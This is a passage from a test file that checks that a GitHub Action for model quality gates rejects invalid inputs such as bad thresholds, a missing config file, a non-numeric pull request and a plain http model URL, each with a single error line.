      { thresholds: 'gate.ceilings.mr9: 0.1' },
      /^::error::thresholds: "gate\.ceilings\.mr9" is not a threshold; allowed: relations\.epsilon, /,
    ],
    [
      'a threshold out of range',
      { thresholds: 'gate.ceilings.mr1: 2' },
      /^::error::gate\.ceilings\.mr1: 2 is out of range; allowed: a number in \[0, 1\]$/,
    ],
    [
      'a boolean that is not one',
      { comment: 'yes' },
      /^::error::comment: got "yes"; allowed: true or false$/,
    ],
    [
      'a missing config file',
      { config: 'gates/nope.yml' },
      /^::error::config .*gates\/nope\.yml: cannot read \(ENOENT: no such file or directory/,
    ],
    [
      'no config and missing inputs',
      { config: '', task: 'vulnerability-prediction' },
      /^::error::config: not given, so these inputs are required: dataset, teacher-model \(or teacher-outputs\), student-model \(or student-outputs\)/,
    ],
    [
      'a report that is not one',
      { report: 'gates/tiny.yml' },
      /^::error::report .*gates\/tiny\.yml: not JSON \(/,
    ],
    [
      'a pull request that is not a number',
      { 'pull-request': '#7' },
      /^::error::pull-request: got "#7"/,
    ],
    [
      'plain http without allow-http',
      { 'teacher-model': 'http://127.0.0.1:9/model.onnx' },
      /^::error::teacher\.model: refusing plain http URL http:\/\/127\.0\.0\.1:9\/model\.onnx; set allow-http: true to permit it$/,
    ],
  ];
  it.each(cases)('fails with one line on %s', async (_name, inputs, expected) => {
    const result = await runner.run({
      inputs: { ...BASE_INPUTS, ...inputs },
      event: pullRequestEvent(12),
    });
    expect(result.code).toBe(1);
    const errors = commands(result.stdout, 'error');
    expect(errors).toHaveLength(1);
    expect(errors[0]).toMatch(expected);
    expectNoStackTrace(result);
    expect(github.requests).toEqual([]);
  });
});
